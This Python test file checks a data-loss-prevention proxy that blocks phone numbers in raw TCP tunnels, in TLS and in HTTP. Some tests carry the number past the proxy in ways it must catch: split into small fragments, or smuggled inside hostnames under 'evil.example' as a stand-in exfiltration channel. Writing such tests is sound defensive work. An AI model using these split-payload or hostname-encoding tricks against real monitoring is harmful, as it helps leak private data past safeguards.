"""Raw connections through CONNECT, and host names as carriers: refused by default, judged where they are allowed."""

from __future__ import annotations

import socket
import ssl
from collections.abc import Iterator

import pytest

from tests.cli.commands import dlp_proxy
from tests.live.harness import SITE, Certificates, OriginThread, curl, running, wait_until
from tests.live.recorder import Keeper
from tests.live.system import System, start_system

pytestmark = pytest.mark.live

POLICY = """\
format: dlp-policy/v1
policy: phones
description: No phone number leaves.
owner: soc@corp.example
rules:
  none-out:
    description: Not one, anywhere; and no drip.
    severity: high
    find: phone-cn
    action: block
    message: {en: 'Stopped. Ask {help} and quote {incident}.'}
tests:
  - name: a number is stopped
    request: {from: li@corp.example, to: 'https://pan.example/', body: 'tel 13800138000'}
    expect: {action: block, rule: none-out}
detectors:
  phone-cn: {like: std/phone-cn}
"""
PHONE = b"13800138000"


class Talker(Keeper):
    """A server that speaks first and answers each line."""

    def converse(self, client: socket.socket) -> None:
        client.sendall(b"hello\n")
        while data := client.recv(65536):
            self.got += data
            client.sendall(b"ok\n")


@pytest.fixture(scope="module")
def talker(certificates: Certificates) -> Iterator[Talker]:
    one = Talker(certificates.leaf(SITE))
    yield one
    one.stop()


@pytest.fixture(scope="module")
def proxy(
    tmp_path_factory: pytest.TempPathFactory, certificates: Certificates, sites: OriginThread, talker: Talker
) -> Iterator[System]:
    folder = tmp_path_factory.mktemp("raw")
    (folder / "policies").mkdir()
    (folder / "policies" / "phones.yaml").write_text(POLICY)
    made = start_system(
        folder,
        certificates.ca,
        sites,
        policies=folder / "policies",
        resolve={
            f"db.{SITE}": f"127.0.0.1:{talker.plain_port}",
            SITE: f"127.0.0.1:{talker.port}",
            f"other.{SITE}": f"127.0.0.1:{talker.plain_port}",
            "mail.qq.example": f"127.0.0.1:{sites.port}",
        },
        raw_tcp=[f"db.{SITE}:5432", f"{SITE}:993", "mail.qq.example:443"],
    )
    with running(made):
        yield made


@pytest.fixture
def got(talker: Talker) -> bytearray:
    talker.got.clear()
    return talker.got


def connect(proxy: System, host: str, port: int) -> socket.socket:
    client = socket.create_connection(("127.0.0.1", proxy.port), timeout=10)
    client.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        answer += client.recv(1)
    assert answer.startswith(b"HTTP/1.1 200"), answer
    return client


def say(client: socket.socket, *lines: bytes) -> bytes:
    """Send each line when the last was answered; return what came last, empty when the connection was closed."""
    answer = b""
    for line in lines:
        try:
            client.sendall(line)
            answer = client.recv(100)
        except OSError:
            return b""
        if not answer:
            return b""
    return answer


def test_by_default_nothing_but_http_passes(proxy: System, got: bytearray) -> None:
    with connect(proxy, f"other.{SITE}", 5432) as client:
        client.sendall(b"SELECT 1;\n")
        assert client.recv(100).startswith(b"HTTP/1.1 400")
    assert got == b""


def test_where_it_is_allowed_both_sides_may_speak_first(proxy: System, got: bytearray) -> None:
    with connect(proxy, f"db.{SITE}", 5432) as client:
        assert client.recv(100) == b"hello\n"
        assert say(client, b"SELECT 1;\n", b"\x00\x01\x02binary\xff\n", b"bye\n") == b"ok\n"
    assert wait_until(lambda: got == b"SELECT 1;\n\x00\x01\x02binary\xff\nbye\n")


@pytest.mark.parametrize(
    "lines",
    [
        (b"one line\n", b"tel 13800138000\n"),
        (b"tel 1380013", b"8000 \n"),
        (b"tel 138", b"001", b"380", b"00 \n"),
        tuple(b"t %c" % one if not at else b"%c" % one for at, one in enumerate(b"13800138000 ")),
        (b"x" * 5000 + b" 1380013", b"8000 \n"),
        ("张三 手机：138".encode(), b"00138000 \n"),
    ],
)
def test_a_number_is_seen_however_it_is_cut(lines: tuple[bytes, ...], proxy: System, got: bytearray) -> None:
    proxy.start_afresh()
    with connect(proxy, f"db.{SITE}", 5432) as client:
        assert client.recv(100) == b"hello\n"
        assert say(client, *lines) == b""
    assert PHONE not in bytes(got)
    assert not bytes(got).endswith(b"00 \n")
    event = next(kept.event for kept in proxy.events() if kept.event.action == "block")
    assert (event.body["request"]["channel"], event.site) == ("tcp", f"db.{SITE}:5432")
    assert event.body["coverage"]["detectors"] == ["phone-cn"]


def test_the_same_inside_tls(proxy: System, got: bytearray) -> None:
    context = ssl.create_default_context(cafile=str(proxy.ca))
    with (
        connect(proxy, SITE, 993) as plain,
        context.wrap_socket(plain, server_hostname=SITE) as client,
    ):
        assert client.recv(100) == b"hello\n"
        assert say(client, b"a1 login\n") == b"ok\n"
        assert say(client, b"tel 1380013", b"8000 \n") == b""
    assert bytes(got) == b"a1 login\ntel 1380013"


def test_a_binary_protocol_tells_once_that_it_is_not_read(proxy: System, got: bytearray) -> None:
    proxy.start_afresh()
    with connect(proxy, f"db.{SITE}", 5432) as client:
        assert client.recv(100) == b"hello\n"
        assert say(client, *(bytes([0, 255, n, 254]) * 50 for n in range(20))) == b"ok\n"
    events = [kept.event for kept in proxy.events()]
    assert [(one.action, one.body["coverage"]["inspected"]) for one in events] == [("log", "none")]
    shown = dlp_proxy("incident", "show", events[0].uid, "--state", proxy.state).out
    assert "coverage none\n" in shown
    assert "200 bytes sent, 200 unpacked, 200 or more not read; 0 parts, 1 binary" in shown
    assert "0 detectors: none" in shown


def test_http_to_such_a_destination_is_read_as_http(proxy: System, sites: OriginThread) -> None:
    sites.seen.clear()
    answer = curl(proxy, "https://mail.qq.example/send", "--data", "hello", "--http1.1")
    assert (answer.code, sites.seen[-1].body) == (200, b"hello")
    assert curl(proxy, "https://mail.qq.example/send", "--data", "tel 13800138000").code == 403


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_a_host_name_is_judged_before_it_is_looked_up(version: str, proxy: System) -> None:
    """Nobody knows these names: a look-up would end in 502."""
    for host in ("13800138000-beijing.evil.example", "1380013.8000.evil.example", f"{PHONE.hex()}.evil.example"):
        answer = curl(proxy, f"https://{host}/", version)
        assert answer.code == 403, host
        event = next(kept.event for kept in proxy.events() if kept.event.uid == answer.headers["x-dlp-proxy"])
        assert event.body["examples"][0]["location"].startswith("host")
    assert curl(proxy, "https://unknown.evil.example/", version).code == 502
